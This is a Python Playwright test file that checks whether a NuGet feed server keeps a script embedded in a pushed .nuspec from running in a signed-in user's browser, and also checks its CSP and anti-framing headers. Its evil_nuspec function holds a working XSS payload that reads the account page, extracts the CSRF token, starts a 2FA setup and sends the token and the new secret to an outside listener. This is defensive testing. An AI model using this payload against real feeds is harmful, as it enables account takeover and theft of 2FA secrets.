"""Issue 11, item 1 in a real browser: a script a user pushes inside a ``.nuspec`` must not run on the feed's origin.

The attack: a package whose nuspec carries an XHTML ``<script>`` element. Served byte for byte as
``application/xml`` from the feed's origin, Chromium runs it when a signed-in user opens the flat-container URL;
it then reads ``/account`` (and the CSRF token in it) with the user's cookie, starts a 2FA set-up and sends the new
secret away. Here the script reports every step to a loopback listener run by the test, so "the script did not
run" is observable from outside the browser: no request arrives, the user's pending 2FA secret (read from the
feed's database) stays empty, the page title is untouched.

Checked three ways in Debian's headless Chromium (Playwright, ``executable_path`` set to it):

* opening the nuspec URL (and the ``.nupkg`` URL) as a signed-in user: a download (``Content-Disposition:
  attachment``), nothing rendered;
* the same response with its ``Content-Disposition`` stripped on the way in (a proxy that drops it): rendered,
  but the sandboxing CSP keeps the script from running;
* the feed's own pages under their strict CSP: no CSP violation reported (the stylesheet is a file of the feed,
  no inline script or style), the stylesheet applies, and another origin cannot frame the account page.
"""

from __future__ import annotations

import http.server
import sqlite3
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page, Route, expect, sync_playwright

from .browser_support import CHROMIUM, CHROMIUM_ARGS
from .conftest import Feed, _require, make_package, start_feed

pytestmark = [pytest.mark.browser]

PACKAGE_ID = "Evil.Nuspec"
VERSION = "1.0.0"
#: How long a script gets to show it ran (it reports within milliseconds when it runs).
SCRIPT_GRACE_SECONDS = 2.5


class Listener:
    """A loopback HTTP server on a port of its own (another origin than the feed) that records every request
    path and answers ``/frame`` with a page framing ``frame_target``."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.frame_target = ""
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.paths.append(self.path)
                body = b""
                if self.path == "/frame":
                    body = f'<!doctype html><iframe id="f" src="{listener.frame_target}"></iframe>'.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stolen(self) -> list[str]:
        return [p for p in self.paths if p != "/frame"]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def evil_nuspec(beacon: str) -> bytes:
    """A valid nuspec with an XHTML ``<script>`` that steals a 2FA set-up, reporting each step to ``beacon``."""
    script = f"""
document.title = 'script-ran';
const report = (what) => fetch('{beacon}/' + what, {{mode: 'no-cors'}}).catch(() => {{}});
report('ran');
(async () => {{
  try {{
    const account = await (await fetch('/account', {{credentials: 'include'}})).text();
    const csrf = /name="csrf" value="([^"]+)"/.exec(account)[1];
    report('csrf?' + encodeURIComponent(csrf));
    const setup = await (await fetch('/account/2fa/begin', {{method: 'POST', credentials: 'include',
      body: new URLSearchParams({{csrf}})}})).text();
    report('secret?' + encodeURIComponent(/id="otp-secret">([A-Z2-7]+)</.exec(setup)[1]));
  }} catch (e) {{
    report('error?' + encodeURIComponent(String(e)));
  }}
}})();
"""
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd">\n'
        "  <metadata>\n"
        f"    <id>{PACKAGE_ID}</id>\n"
        f"    <version>{VERSION}</version>\n"
        "    <authors>mallory</authors>\n"
        "    <description>A package with a script in its nuspec</description>\n"
        "  </metadata>\n"
        f'  <script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[{script}]]></script>\n'
        "</package>\n"
    ).encode()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


@pytest.fixture(scope="module")
def feed(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> Iterator[Feed]:
    f = start_feed(tmp_path_factory.mktemp("feed"), users=("alice", "bob", "mallory"))
    pushed = f.push(make_package(PACKAGE_ID, VERSION, nuspec=evil_nuspec(listener.url)), key="mallory")
    assert pushed.status_code == 201, pushed.text
    yield f
    f.stop()


@pytest.fixture
def page(tmp_path: Path) -> Iterator[Page]:
    if not Path(CHROMIUM).exists():
        _require("Debian's chromium is not installed")
    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            str(tmp_path / "profile"),
            executable_path=CHROMIUM,
            headless=True,
            args=CHROMIUM_ARGS,
            accept_downloads=True,
        )
        try:
            yield context.pages[0] if context.pages else context.new_page()
        finally:
            context.close()


def _pending_secret(feed: Feed, user: str) -> str | None:
    with sqlite3.connect(feed.data_dir / "feed.db") as db:
        row = db.execute("SELECT totp_pending_secret FROM users WHERE name = ?", (user,)).fetchone()
    assert row is not None, user
    return row[0]  # type: ignore[no-any-return]


def _sign_in(page: Page, feed: Feed, user: str) -> None:
    page.goto(f"{feed.base_url}/account/login")
    page.fill("#api_key", feed.keys[user])
    page.click("#sign-in")
    expect(page).to_have_url(f"{feed.base_url}/account")
    expect(page.locator("#twofactor-status")).to_contain_text("Off.")


def _open(page: Page, url: str) -> None:
    """Navigate to ``url``; a download aborts the navigation, which Playwright reports as an error."""
    try:
        page.goto(url)
    except PlaywrightError as exc:
        assert "Download is starting" in exc.message or "net::ERR_ABORTED" in exc.message, exc.message


def _assert_script_did_not_run(page: Page, feed: Feed, listener: Listener, pending_before: str | None) -> None:
    deadline = time.monotonic() + SCRIPT_GRACE_SECONDS
    while time.monotonic() < deadline and not listener.stolen():
        time.sleep(0.1)
    assert listener.stolen() == [], f"the nuspec's script ran on the feed's origin: {listener.stolen()}"
    assert _pending_secret(feed, "alice") == pending_before, "the script started a 2FA set-up for alice"
    with feed.client() as c:
        account = c.get("/api/account", headers={"X-NuGet-ApiKey": feed.keys["alice"]}).json()
    assert account["twoFactorEnabled"] is False


def _flat(feed: Feed, name: str) -> str:
    return f"{feed.base_url}/v3/flatcontainer/{PACKAGE_ID.lower()}/{VERSION}/{name}"


def test_a_script_in_a_pushed_nuspec_does_not_run_for_a_signed_in_user(
    feed: Feed, listener: Listener, page: Page
) -> None:
    listener.paths.clear()
    pending_before = _pending_secret(feed, "alice")
    _sign_in(page, feed, "alice")
    downloads: list[str] = []
    page.on("download", lambda d: downloads.append(d.suggested_filename))
    names = [f"{PACKAGE_ID.lower()}.nuspec", f"{PACKAGE_ID.lower()}.{VERSION}.nupkg"]
    for name in names:
        _open(page, _flat(feed, name))
        _assert_script_did_not_run(page, feed, listener, pending_before)
        assert page.title() != "script-ran"
    assert downloads == names  # saved as files under their own names, not shown


def test_the_sandboxing_csp_alone_keeps_the_script_inert(feed: Feed, listener: Listener, page: Page) -> None:
    """A proxy that drops ``Content-Disposition``: Chromium renders the nuspec, the CSP sandbox stops its script."""
    listener.paths.clear()
    pending_before = _pending_secret(feed, "alice")
    _sign_in(page, feed, "alice")
    nuspec = _flat(feed, f"{PACKAGE_ID.lower()}.nuspec")

    def strip_disposition(route: Route) -> None:
        response = route.fetch()
        headers = {k: v for k, v in response.headers.items() if k.lower() != "content-disposition"}
        route.fulfill(response=response, headers=headers)

    page.route(nuspec, strip_disposition)
    page.goto(nuspec)
    _assert_script_did_not_run(page, feed, listener, pending_before)
    assert page.title() != "script-ran"
    assert f"<id>{PACKAGE_ID}</id>" in page.content()  # Chromium did render the nuspec (no download)


def test_the_feed_pages_run_under_their_csp_without_violations(feed: Feed, listener: Listener, page: Page) -> None:
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    for path in (
        "/packages",
        f"/packages/{PACKAGE_ID}",
        f"/packages/{PACKAGE_ID}/{VERSION}",
        "/packages/No.Such.Package",
    ):
        page.goto(feed.base_url + path)
        # the stylesheet (a file of the feed, allowed by style-src 'self') applies: the header's colour
        color = page.eval_on_selector("header", "h => getComputedStyle(h).backgroundColor")
        assert color == "rgb(0, 72, 128)", (path, color)
    _sign_in(page, feed, "bob")  # bob: alice's 2FA state is what the other tests watch
    page.click("#enable-2fa")
    expect(page.locator("#qr svg")).to_be_visible()
    assert violations == [], violations
    # another origin cannot frame the pages (frame-ancestors 'none', X-Frame-Options: DENY)
    for path, text in (("/account", "Account: bob"), ("/packages", "Packages")):
        listener.frame_target = feed.base_url + path
        page.goto(f"{listener.url}/frame")
        frame = page.frame_locator("#f")
        expect(frame.locator("body")).not_to_be_empty()  # the frame finished loading (the feed or an error page)
        child = next(f for f in page.frames if f != page.main_frame)
        assert child.url.startswith("chrome-error:"), (path, child.url)  # Chromium refused to show it framed
        expect(frame.locator("body")).not_to_contain_text(text)
